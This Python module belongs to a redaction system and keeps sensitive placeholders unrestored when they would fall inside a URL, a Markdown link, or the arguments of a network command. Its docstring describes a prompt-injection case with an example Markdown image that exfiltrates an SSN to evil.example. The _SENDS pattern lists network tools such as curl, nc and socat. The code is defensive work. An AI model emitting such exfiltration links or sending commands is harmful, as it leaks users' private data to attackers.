"""Where a value that comes back would leave this machine by itself: in an address that something opens.

A client shows Markdown pictures without asking, and a tool that fetches opens its argument: a page that has spoken to
the model (prompt injection) could have it write `![](https://evil.example/?d=[[SSN_...]])`. There the placeholder
stays. A guard follows one text, in the pieces in which it comes, and says whether a value would be part of an address
where the text ends now. All are linear and hold a few characters.
"""

from __future__ import annotations

import re
from typing import Protocol

from redaction.restore.json_depth import JsonTracker


class Guard(Protocol):
    """Follows one text."""

    def feed(self, text: str) -> None:
        """The next piece."""
        ...

    @property
    def stays(self) -> bool:
        """Whether a placeholder that stands here must stay one."""
        ...


class Always:
    """`stays` is the same everywhere: for tools whose arguments come back whole, or not at all."""

    __slots__ = ("stays",)

    def __init__(self, *, stays: bool) -> None:
        self.stays = stays

    def feed(self, text: str) -> None:
        """Nothing to follow."""


class ShownText:
    """Text that a person reads: the destination of a Markdown link or picture (`](`), an attribute of HTML that begins
    with a scheme (browsers take line breaks out of it), and whatever follows `://`, `mailto:`, a `//` where HTML or
    Markdown has a destination, or `www.` without white space."""

    __slots__ = ("_end", "_lines", "_open", "_tail")

    def __init__(self) -> None:
        self._tail = ""
        self._end: re.Pattern[str] | None = None  # how the address ends in which the text stands
        self._open = 0  # parentheses in it
        self._lines = 0

    def feed(self, text: str) -> None:
        """See `Guard.feed`."""
        if self._end is None:
            text = self._tail + text
        at = 0
        while at < len(text):
            if self._end is None:
                found = _BEGIN.search(text, at)
                if found is None:
                    break
                self._open = self._lines = 0
                quote = found["quote"]
                self._end = _LINK_END if found.group().startswith("](") else _QUOTED_END[quote] if quote else _BARE_END
                at = found.end()
            else:
                at = self._inside(text, at, self._end)
        self._tail = "" if self._end is not None else text[max(at, len(text) - _TAIL) :]

    def _inside(self, text: str, at: int, end: re.Pattern[str]) -> int:
        for found in end.finditer(text, at):
            if found.group() == "\n" and end is not _BARE_END:
                self._lines += 1
                if self._lines <= _MOST_LINES:
                    continue
            if found.group() == "(":
                self._open += 1
            elif found.group() == ")" and self._open:
                self._open -= 1
            elif found.group() != ")" or end is _LINK_END:
                self._end = None
                return found.end() if found.group() == ")" else found.start()
            else:  # GitHub's Markdown: a closing parenthesis that none opened is behind a bare address
                self._end = None
                return found.end()
        return len(text)

    @property
    def stays(self) -> bool:
        """See `Guard.stays`."""
        return self._end is not None


_TAIL = 48
# A link may be broken over so many lines: what was never closed is no address for ever.
_MOST_LINES = 2
_COLON = r"(?::|&(?:#0{0,5}58|#[xX]0{0,4}3[aA]|colon);?)"
_SLASH = r"(?:\\?/|&(?:#0{0,5}47|#[xX]0{0,4}2[fF]|sol);?)"
_BEGIN = re.compile(
    r"\]\("
    rf"|(?P<quote>[\"'])(?!file:)[a-z][a-z0-9+.-]{{1,12}}{_COLON}{_SLASH}{{2}}"
    rf"|(?<!file){_COLON}{_SLASH}{{2}}"
    r"|https?:\\{2}|(?<![A-Za-z0-9])mailto:(?=[^\s\[])"
    r"""|(?:[("'=<]|\]:[ \t]{1,3})//(?=[^\s/]|\Z)"""
    r"|(?<![A-Za-z0-9.])www\.",
    re.IGNORECASE,
)
_QUOTED_END = {quote: re.compile(rf"{quote}|\\\\(?={quote})|\n") for quote in "\"'"}
_LINK_END = re.compile(r"[()\n]")
_BARE_END = re.compile(r"""[()\s<>"`]""")


class Command:
    """Arguments of a tool that runs programs: what stands in an address of a command line, and behind a program that
    sends until the command ends. What a pipe carries into such a program is not followed."""

    __slots__ = ("_address", "_sends", "_tail")

    def __init__(self) -> None:
        self._address = ShownText()
        self._sends = False
        self._tail = ""

    def feed(self, text: str) -> None:
        """See `Guard.feed`."""
        self._address.feed(text)
        text = self._tail + text
        for found in _SENDS.finditer(text):
            self._sends = found["program"] is not None
        self._tail = text[-_TAIL:]

    @property
    def stays(self) -> bool:
        """See `Guard.stays`."""
        return self._sends or self._address.stays


_SENDS = re.compile(
    r"(?P<program>(?<![\w.-])(?:curl|wget|httpie|https?|xh|nc|ncat|netcat|socat|telnet|ftp|sftp|scp|rsync|ssh|nslookup"
    r"|dig|host|ping|sendmail|mail|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)(?:\.exe)?(?=[\s\"',]|\\t))"
    r"|[;|&\n]|\\n"
)


class WholeAddress:
    """Arguments of a tool: a string that is an address as a whole, from its beginning to here, without white space.

    `bare`: also without a scheme (`host.example/path`), for a tool that is there to open addresses.
    """

    __slots__ = ("_address", "_head", "_tracker")

    def __init__(self, *, bare: bool) -> None:
        self._address = _BARE_ADDRESS if bare else _ADDRESS
        self._tracker = JsonTracker(heads=True)
        self._head: str | None = ""

    def feed(self, text: str) -> None:
        """See `Guard.feed`."""
        self._tracker.feed(text)
        self._head = JsonTracker.grown(self._head, text)

    @property
    def stays(self) -> bool:
        """See `Guard.stays`."""
        head = self._tracker.head if self._tracker.level else self._head
        return head is not None and self._address.match(head) is not None


_ADDRESS = re.compile(r"(?!file:)[a-z][a-z0-9+.-]{0,20}:\\?/\\?/|//|www\.", re.IGNORECASE)
_BARE_ADDRESS = re.compile(
    _ADDRESS.pattern + r"|[a-z0-9-]{1,60}(?:\.[a-z0-9-]{1,60}){1,8}(?::\d{1,5})?[/?#]", re.IGNORECASE
)
